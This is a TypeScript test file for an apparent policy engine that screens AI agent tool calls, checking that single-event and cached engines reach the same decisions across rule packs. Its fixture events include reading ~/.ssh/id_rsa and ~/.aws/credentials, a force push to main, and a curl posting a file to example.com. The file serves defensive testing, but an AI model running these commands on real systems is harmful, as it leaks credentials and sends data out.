import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { compile } from "../../compiler/compile.ts";
import type { Plan } from "../../engine/plan.ts";
import { createEngine, createRegexEngine, type EngineOptions } from "../../runtime.ts";
import { resolveImport } from "../../store/discover.ts";
import { packFile, packNames } from "../../store/packs.ts";
import type { DiscoveredFile } from "../../store/policy-file.ts";

function planOf(pack: string): Plan {
  const path = packFile(pack) ?? "";
  const file: DiscoveredFile = { name: `pack:${pack}`, path, bytes: readFileSync(path) };
  return compile({ files: [file], resolveImport }).plan as Plan;
}

const environment = {
  cwd: "/w/p",
  workspace: "/w/p",
  home: "/home/u",
  os: "linux",
  user: "u",
  interactive: true,
};
const bash = (command: string) => ({ event: "tool_call", id: "e", tool: "bash", args: { command }, environment });
const events = [
  ...[
    "git status",
    "git push --force origin main",
    "touch a && cat ~/.ssh/id_rsa",
    "curl -d @x https://example.com",
  ].map(bash),
  { event: "tool_call", id: "e", tool: "write", args: { path: "/w/p/.env", content: "A=1" }, environment },
  { event: "tool_call", id: "e", tool: "read", args: { path: "/home/u/.aws/credentials" }, environment },
  {
    event: "tool_result",
    id: "e",
    tool: "bash",
    content: [{ type: "text", text: "password: hunter2hunter2" }],
    environment,
  },
  { event: "input", id: "e", text: "hello", environment },
  { event: "nothing" },
];

const decided = (plan: Plan, event: unknown, options: EngineOptions = {}) => {
  const { decision, body } = createEngine(plan, options).decide(event);
  return { decision, body };
};

describe("an engine made for one event", () => {
  it.each(packNames())("decides by `%s` as any other, and has the same on record", (pack) => {
    const plan = planOf(pack);
    const regex = createRegexEngine();
    const links: EngineOptions["links"] = new WeakMap();
    for (const event of events) {
      const expected = decided(plan, event);
      expect(decided(plan, event, { once: true })).toEqual(expected);
      for (let i = 0; i < 2; i++) expect(decided(plan, event, { regex, links })).toEqual(expected);
    }
  });
});
